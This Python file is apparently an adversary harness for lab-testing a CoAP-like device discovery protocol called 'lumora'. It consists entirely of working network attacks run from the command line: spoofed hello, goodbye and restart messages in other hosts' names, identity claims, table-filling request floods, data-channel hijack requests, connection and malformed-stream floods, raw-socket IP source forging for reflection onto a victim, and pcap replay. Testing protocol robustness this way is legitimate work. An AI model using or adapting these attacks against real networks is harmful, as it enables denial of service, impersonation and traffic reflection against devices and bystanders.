"""Attacks of a stranger on the network. The first word of the command line names one.

The stranger learns ids, instances and ports by listening, as any host can, and builds its datagrams itself. It prints
"ready" when it begins, and "done ..." with figures when the attack is over.
"""

import os
import random
import select
import socket
import struct
import sys
import threading
import time

import wire

VICTIM_PORT = 5000
GARBAGE_KEY = "TransStatus"


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("10.77.0.254", 9))
        return probe.getsockname()[0]


ADDRESS = own_address()


def say(*words):
    print(*words, flush=True)


def open_socket(port=0):
    opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    opened.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    opened.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ADDRESS))
    opened.bind((ADDRESS, port))
    return opened


def open_group():
    opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    opened.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    opened.bind(wire.GROUP)
    membership = socket.inet_aton(wire.GROUP[0]) + socket.inet_aton(ADDRESS)
    opened.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
    return opened


def listen_for(*types):
    """Waits until a node of each type has said hello. Returns the nodes in that order."""
    heard = {}
    with open_group() as group:
        while any(kind not in heard for kind in types):
            datagram, (address, _) = group.recvfrom(2048)
            message = wire.decode(datagram)
            node = wire.node_of(message.payload, address)
            if message.path() == "lumora/hello" and node and address != ADDRESS:
                heard[node.type] = node
    return [heard[kind] for kind in types]


def number(bits):
    return random.getrandbits(bits)


def invented(port=None):
    return wire.Node(ADDRESS, port or random.randint(1024, 65535), number(64), number(32), "camera")


def paced(count, rate):
    """Yields the numbers from 0 on, `rate` of them per second, or all at once if the rate is 0."""
    begin = time.monotonic()
    for at in range(count):
        wait = begin + at / rate - time.monotonic() if rate else 0
        if wait > 0:
            time.sleep(wait)
        yield at


def send_all(datagrams):
    """Sends pairs of a datagram and its destination. Prints how many there were, and how many answers came."""
    say("ready")
    begin = time.monotonic()
    sent = size = answered = 0
    with open_socket() as out:
        for datagram, to in datagrams:
            out.sendto(datagram, to)
            sent += 1
            size += len(datagram)
            answered += drain(out)
    took = time.monotonic() - begin
    say("done", sent, "datagrams,", size, "bytes,", answered, f"answers, {took:.2f} s")


def drain(opened):
    count = 0
    try:
        while opened.recv(2048, socket.MSG_DONTWAIT):
            count += 1
    except OSError:
        pass
    return count


def close_every_request(device_type, client_type):
    """Says in a client's name that every request up to the highest number has ended."""
    device, client = listen_for(device_type, client_type)
    block = (wire.BLOCK1, wire.FIRST_OF_MORE_BLOCKS)
    last = 0x7FFFFFFF

    def datagrams():
        for secret in (b"", os.urandom(8), bytes(8)):
            options = [block, wire.requester(client, last, last, last, secret)]
            yield wire.request(wire.DELETE, "x", number(16), os.urandom(8), b"", options), (device.address, device.port)

    send_all(datagrams())


def part(seconds, *types):
    """Says hello and goodbye in the name of other hosts' nodes, again and again."""
    nodes = listen_for(*types)
    send_all(
        (make(node, number(16)), wire.GROUP)
        for _ in paced(int(float(seconds) * 20), 20)
        for node in nodes
        for make in (wire.hello, wire.goodbye)
    )


def restart(seconds, *types):
    """Says hello as if other hosts' nodes had just been started again on this host."""
    nodes = listen_for(*types)
    other = number(32)
    send_all(
        (wire.hello(wire.Node(ADDRESS, node.port, node.id, instance, node.type), number(16)), wire.GROUP)
        for _ in paced(int(float(seconds) * 10), 10)
        for node in nodes
        for instance in (other, number(32))
    )


def claim(device_type, ports):
    """Says hello from many ports in the name of another host's node: from closed ones, or from silent ones."""
    (device,) = listen_for(device_type)
    silent = [open_socket() for _ in range(64)] if ports == "silent" else []
    numbers = [own.getsockname()[1] for own in silent] or range(2000, 30000)

    def claimed():
        return wire.Node(ADDRESS, random.choice(numbers), device.id, device.instance, device.type)

    send_all((wire.hello(claimed(), number(16)), wire.GROUP) for _ in paced(100000, 1000))


def invent(count, rate):
    send_all((wire.hello(invented(), number(16)), wire.GROUP) for _ in paced(int(count), float(rate)))


def fill(kind, device_type, count, rate):
    """Sends requests of a kind that fills one of the device's tables."""
    (device,) = listen_for(device_type)
    to = (device.address, device.port)
    one = invented()

    def options(at):
        if kind == "bodies":
            yield (wire.BLOCK1, wire.FIRST_OF_MORE_BLOCKS)
        if kind == "open-requests":
            yield wire.requester(one, at, 0, at)
        elif kind != "foreign-requests":
            yield wire.requester(invented(), secret=random.choice((b"", os.urandom(8))))

    code = wire.PUT if kind == "bodies" else wire.GET
    send_all(
        (wire.request(code, GARBAGE_KEY, at, os.urandom(8), b"", list(options(at))), to)
        for at in paced(int(count), float(rate))
    )


def setup_string(port):
    return f'{{"p":2,"ep":{{"addr":"{ADDRESS}","port":{port}}}}}'.encode()


def set_up(count, device_type):
    """Asks for data channels to this host."""
    (device,) = listen_for(device_type)
    to = (device.address, device.port)
    send_all(
        (
            wire.request(wire.GET, ".sys.mediaservice.setup", number(16), os.urandom(8), setup_string(7000), [option]),
            to,
        )
        for option in (wire.requester(invented()) for _ in paced(int(count), 1000))
    )


def set_up_as(device_type, other_type, port):
    """Asks for a data channel in the name of another host's node, to a port of the stranger's choice."""
    device, other = listen_for(device_type, other_type)
    to = (device.address, device.port)

    def datagrams():
        for secret in (b"", os.urandom(8)):
            option = wire.requester(other, 1 << 20, 0, 1 << 20, secret)
            value = setup_string(int(port))
            yield wire.request(wire.GET, ".sys.mediaservice.setup", number(16), os.urandom(8), value, [option]), to

    send_all(datagrams())


def stop_slowly(device_type):
    """Opens data channels and stops each in the middle of a frame, which goes on byte by byte."""
    (device,) = listen_for(device_type)
    to = (device.address, device.port)

    def ask(own, code, key, value=b""):
        token = os.urandom(8)
        own.sendto(wire.request(code, key, number(16), token, value, [wire.requester(invented())]), to)
        while True:
            answer = wire.decode(own.recv(2048))
            if answer.kind == wire.CON:
                own.sendto(wire.encode(wire.ACK, 0, answer.message_id), to)
            if answer.token == token:
                return

    def stop(own):
        ask(own, wire.PUT, "StopTransport")
        say("stopped")

    def go_on(channel):
        try:
            channel.send(b"x")
        except OSError:
            pass

    with open_socket() as own, socket.create_server(("", 7001)) as listener:
        say("ready")
        while True:
            ask(own, wire.GET, ".sys.mediaservice.setup", setup_string(7000))
            back, _ = listener.accept()
            with back, socket.create_connection(to[:1] + (7000,)) as channel:
                channel.sendall(struct.pack("<BIB", 6, 5000000, 1))
                stopping = threading.Thread(target=stop, args=(own,))
                stopping.start()
                while stopping.is_alive():
                    go_on(channel)
                    stopping.join(0.1)


def listen(port):
    """Accepts connections and prints the address of each."""
    with socket.create_server(("", int(port))) as listener:
        say("ready")
        while True:
            connection, (address, _) = listener.accept()
            connection.close()
            say("connected", address)


def hold(port):
    """Accepts connections and keeps them, silently."""
    held = []
    with socket.create_server(("", int(port))) as listener:
        say("ready")
        while True:
            held.append(listener.accept())


class Pretender:
    """Nodes that are found and answer pings. on_request decides what becomes of a request."""

    def __init__(self, device_type, count, on_request):
        self.on_request = on_request
        self.group = open_group()
        self.own = [open_socket() for _ in range(count)]
        self.nodes = {
            own: wire.Node(ADDRESS, own.getsockname()[1], number(64), number(32), device_type) for own in self.own
        }

    def run(self):
        next_hello = 0
        while True:
            if time.monotonic() >= next_hello:
                next_hello = time.monotonic() + 0.75
                for own, node in self.nodes.items():
                    own.sendto(wire.hello(node, number(16)), wire.GROUP)
            for ready in select.select([self.group, *self.own], [], [], 0.05)[0]:
                datagram, source = ready.recvfrom(2048)
                if source[0] != ADDRESS:
                    self.take(ready, wire.decode(datagram), source)

    def take(self, at, message, source):
        if message.code != wire.GET and message.path() != "lumora":
            return
        kind = wire.ACK if message.kind == wire.CON else wire.NON
        for own in self.own if at is self.group else [at]:
            node = self.nodes[own]
            if message.path() == "lumora":
                self.on_request(own, message, source)
            elif message.query() in ("", f"rt={node.type}"):
                options = [(wire.CONTENT_FORMAT, wire.LINK_FORMAT)]
                own.sendto(wire.encode(kind, wire.CONTENT, message.message_id, message.token, options, node.link()), source)


def ignore(*_):
    pass


def acknowledge(own, message, source):
    own.sendto(wire.encode(wire.ACK, 0, message.message_id), source)


def answer_too_long(own, message, source):
    answer = wire.encode(wire.ACK, wire.CONTENT, message.message_id, message.token, [], b"x" * 1600)
    own.sendto(answer, source)


def answer_and_show_token(own, message, source):
    own.sendto(wire.encode(wire.ACK, wire.CONTENT, message.message_id, message.token, [], b"yes"), source)
    say("token", message.token.hex())


def pretend(device_type, count, treatment):
    treatments = {
        "ignore": ignore,
        "acknowledge": acknowledge,
        "too-long": answer_too_long,
        "show-tokens": answer_and_show_token,
    }
    pretender = Pretender(device_type, int(count), treatments[treatment])
    say("ready")
    pretender.run()


def attack_until_told(attack, counts):
    """Attacks each target of the counts on a thread of its own, until standard input ends, and says the counts."""
    for target in counts:
        threading.Thread(target=attack, args=(target,), daemon=True).start()
    say("ready")
    sys.stdin.read()
    say("done", *(f"{target} {count}" for target, count in counts.items()))


def connect(*targets):
    """Connects to each address:port again and again, and keeps each connection for a second."""
    counts = dict.fromkeys(targets, 0)

    def keep_connecting(target):
        host, port = target.split(":")
        held = []
        while True:
            try:
                held.append((time.monotonic(), socket.create_connection((host, int(port)), timeout=0.2)))
                counts[target] += 1
            except OSError:
                pass
            while held and time.monotonic() - held[0][0] > 1:
                held.pop(0)[1].close()
            time.sleep(0.001)

    attack_until_told(keep_connecting, counts)


def pester(*targets):
    """Connects to each address:port, and misbehaves in every way in turn until standard input ends."""
    counts = dict.fromkeys(targets, 0)
    huge = b"\x06\xff\xff\xff\x7f\x01"
    words = (b"", b"\0", huge, huge + os.urandom(60000), os.urandom(600), b"\x16\x03\x01\x02\0\x01", b"\xff" * 7)

    def misbehave(opened, at):
        opened.sendall(words[at % len(words)])
        if at % 3 == 0:
            opened.shutdown(socket.SHUT_WR)
        elif at % 3 == 1:  # a reset
            opened.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            opened.close()

    def keep_on(target):
        host, port = target.split(":")
        held = []
        at = 0
        while True:
            try:
                opened = socket.create_connection((host, int(port)), timeout=0.2)
                counts[target] += 1
                held.append(opened)
                misbehave(opened, at)
            except OSError:
                time.sleep(0.01)
            for slow in held[:-20]:
                slow.close()
            for slow in held[-20:]:
                try:
                    slow.send(b"\x06", socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL)
                except OSError:
                    pass
            held = held[-20:]
            at += 1
            time.sleep(0.002)

    attack_until_told(keep_on, counts)


def forged(source, destination, payload):
    """An IP packet with a UDP datagram. The kernel fills in the IP checksum; 0 means that UDP has none."""
    udp = struct.pack(">HHHH", source[1], destination[1], 8 + len(payload), 0) + payload
    addresses = socket.inet_aton(source[0]) + socket.inet_aton(destination[0])
    return struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 1, socket.IPPROTO_UDP, 0) + addresses + udp


def forge(kind, device_type, victim, count, rate):
    """Sends with another host's source address, so that answers go there."""
    (device,) = listen_for(device_type)
    to = (device.address, device.port)
    size = 0
    say("ready")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ADDRESS))
        for _ in paced(int(count), float(rate)):
            if kind == "service":
                payload = wire.request(wire.GET, "ServiceInfo", number(16), os.urandom(8), b"")
            elif kind == "core":
                payload = wire.core(number(16), os.urandom(8))
            else:
                to, payload = wire.GROUP, wire.hello(wire.Node(victim, VICTIM_PORT, number(64), number(32)), number(16))
            packet = forged((victim, VICTIM_PORT), to, payload)
            raw.sendto(packet, to)
            size += len(packet)
    say("done", size)


def ask_from_nowhere(device_type, hosts):
    """Asks in the name of addresses that no host has, by unicast and by the group, so that the answers stay."""
    (device,) = listen_for(device_type)
    say("ready")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ADDRESS))
        for at in paced(100000, 1500):
            source = (f"10.77.0.{100 + at % int(hosts)}", random.randint(1024, 65535))
            to = wire.GROUP if at % 3 == 0 else (device.address, device.port)
            asked = wire.core(number(16), os.urandom(8))
            raw.sendto(forged(source, to, wire.probe(device_type) if at % 3 == 0 else asked), to)


def recorded(path, *to):
    """The UDP datagrams of a recording of an Ethernet that went to one of the addresses: (source, destination, payload)."""
    with open(path, "rb") as opened:
        data = opened.read()
    at = 24  # behind the head of the file
    while at + 16 <= len(data):
        (length,) = struct.unpack_from("<I", data, at + 8)
        packet = data[at + 16 + 14: at + 16 + length]
        at += 16 + length
        if len(packet) < 28 or packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_UDP:
            continue
        source, destination = socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20])
        udp = packet[(packet[0] & 15) * 4:]
        ports = struct.unpack(">HH", udp[:4])
        if destination in to:
            yield (source, ports[0]), (destination, ports[1]), udp[8:]


def replay(path, *to):
    """Sends recorded datagrams again as they came: each with its source, and in their order."""
    datagrams = list(recorded(path, *to))
    say("ready")
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(3):
            for source, destination, payload in datagrams:
                raw.sendto(forged(source, destination, payload), destination)
                time.sleep(0.002)
    say("done", len(datagrams), "datagrams")


def suffer():
    """Counts the bytes of the IP packets for this host. Prints the sum for each line of standard input."""
    received = 0
    with open_socket(VICTIM_PORT), socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as all_ip:
        all_ip.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        own = socket.inet_aton(ADDRESS)
        say("ready")
        while True:
            for ready in select.select([all_ip, sys.stdin], [], [])[0]:
                if ready is sys.stdin:
                    if not sys.stdin.readline():
                        return
                    say("received", received)
                    continue
                packet, details = all_ip.recvfrom(2048)
                if details[2] != socket.PACKET_OUTGOING and packet[16:20] == own:
                    received += struct.unpack(">H", packet[2:4])[0]


def foreign(device_type):
    """A client without the requester option. Sends the same POST for each line of standard input."""
    (device,) = listen_for(device_type)
    datagram = wire.request(wire.POST, "add", 0x1234, b"foreign!", b"1")
    with open_socket() as own:
        own.settimeout(1)
        say("ready")
        for _ in sys.stdin:
            say("answered", post(own, datagram, (device.address, device.port)))


def post(own, datagram, to):
    """Repeats the datagram until it is answered, as RFC 7252 asks of clients. Returns the code of the answer."""
    for _ in range(5):
        own.sendto(datagram, to)
        try:
            return f"{wire.decode(own.recv(2048)).code:#x}"
        except TimeoutError:
            pass
    return "nothing"


ATTACKS = {
    "close-every-request": close_every_request,
    "part": part,
    "restart": restart,
    "claim": claim,
    "invent": invent,
    "fill": fill,
    "set-up": set_up,
    "set-up-as": set_up_as,
    "stop-slowly": stop_slowly,
    "listen": listen,
    "hold": hold,
    "pretend": pretend,
    "connect": connect,
    "pester": pester,
    "forge": forge,
    "ask-from-nowhere": ask_from_nowhere,
    "replay": replay,
    "suffer": suffer,
    "foreign": foreign,
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
